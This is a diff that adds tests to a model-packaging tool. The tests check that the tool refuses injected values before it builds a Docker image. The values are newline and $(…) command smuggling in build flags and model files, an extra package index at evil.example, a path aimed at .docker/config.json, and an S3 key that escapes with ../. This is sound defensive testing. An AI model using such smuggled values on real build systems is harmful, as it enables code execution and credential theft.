@@ -522,6 +522,99 @@ def test_requirements_that_cannot_be_installed(
     _assert_clean(docker_client, workdir)
 
 
+def _edit(model: Path, name: str, old: str, new: str) -> None:
+    text = (model / name).read_text()
+    assert old in text, text
+    (model / name).write_text(text.replace(old, new, 1))
+
+
+# Each is a value that reached the generated Dockerfile or its shell line unquoted: a newline
+# after FROM adds instructions, $(…) in the RUN line runs at build time. (flags, edit of the
+# iris model's files, what the refusal names.)
+INJECTIONS = {
+    "base-image": (
+        ("--base-image", "python:3.11-slim\nRUN touch /pwned"), None, "--base-image",
+    ),
+    "pip-index-url": (
+        ("--pip-index-url", "https://pypi.example/simple; touch /pwned"), None,
+        "--pip-index-url",
+    ),
+    "pip-extra-index-url": (
+        ("--pip-extra-index-url", "https://pypi.example/$(touch /pwned)"), None,
+        "--pip-extra-index-url",
+    ),
+    "loader_module": (
+        (), ("MLmodel", "loader_module: mlflow.sklearn", "loader_module: $(touch /pwned)"),
+        "its MLmodel gives flavors.python_function.loader_module: '$(touch /pwned)'",
+    ),
+    "python_env python": (
+        (), ("python_env.yaml", "python: ", "python: \"3.11-slim\\nRUN touch /pwned\"\n#"),
+        "its python_env.yaml gives python: '3.11-slim\\nRUN touch /pwned'",
+    ),
+    "requirements option": (
+        (), ("requirements.txt", "mlflow", "--extra-index-url https://evil.example/simple\nmlflow"),
+        "its requirements.txt has the line '--extra-index-url https://evil.example/simple'",
+    ),
+    "serving example path": (
+        (), ("MLmodel", "serving_input_path: serving_input_example.json",
+             "serving_input_path: ../../../.docker/config.json"),
+        "serving_input_path: '../../../.docker/config.json', which is not a path inside",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", INJECTIONS)
+def test_injection_into_the_build_is_refused_before_anything_is_built(
+    docker_client: Any, iris_model: Path, workdir: Path, case: str
+) -> None:
+    flags, edit, named = INJECTIONS[case]
+    model = _copy_model(iris_model, workdir / "model")
+    if edit:
+        _edit(model, *edit)
+    repository = "it-injection"
+    args = ("package", "--model-uri", str(model), "--repository", repository, *flags)
+    for dry in ((), ("--dry-run",)):
+        done = mlsteps(*dry, "--json", *args, cwd=workdir, env=private_tmp(workdir))
+        assert done.returncode == 2, (dry, done.stderr[-2000:])
+        error = json.loads(done.stdout)["error"]
+        assert named in error, error
+        assert "Traceback" not in done.stderr and "Step 1/" not in done.stderr
+    # Refused before the engine was asked for anything: no image, no build container.
+    assert not docker_client.images.list(name=repository)
+    assert not docker_client.images.list(
+        filters={"label": f"org.opencontainers.image.title={repository}"}
+    )
+    _assert_clean(docker_client, workdir)
+
+
+def test_an_s3_key_that_leads_out_of_the_model_directory_is_refused(
+    moto_server: Any, iris_model: Path, workdir: Path
+) -> None:
+    """Against moto (the AWS emulator): S3 keys are any string, and whoever can write the
+    model's prefix chose them; a ../ key was downloaded to wherever it pointed."""
+    import boto3
+
+    env = moto_server.env()
+    s3 = boto3.client("s3", endpoint_url=moto_server.url, region_name=moto_server.region,
+                      aws_access_key_id="testing", aws_secret_access_key="testing")  # fmt: skip
+    s3.create_bucket(Bucket="it-package-traversal")
+    for path in iris_model.rglob("*"):
+        if path.is_file():
+            key = f"model/{path.relative_to(iris_model).as_posix()}"
+            s3.put_object(Bucket="it-package-traversal", Key=key, Body=path.read_bytes())
+    # From the download directory (TMPDIR/mlsteps-package-*/model), three levels up: workdir.
+    s3.put_object(Bucket="it-package-traversal", Key="model/../../../escaped.txt", Body=b"x")
+    done = package(
+        "--model-uri", "s3://it-package-traversal/model", "--repository", "it-traversal",
+        cwd=workdir, env=env,
+    )  # fmt: skip
+    assert done.returncode == 2, done.stderr[-2000:]
+    error = json.loads(done.stdout)["error"]
+    assert "'../../../escaped.txt', a name that leads out of the model's directory" in error
+    assert not (workdir / "escaped.txt").exists()
+    assert temp_left(workdir) == []
+
+
 def test_a_server_that_crashes_fails_the_smoke_test(
     docker_client: Any, iris_model: Path, registry: str, workdir: Path
 ) -> None:
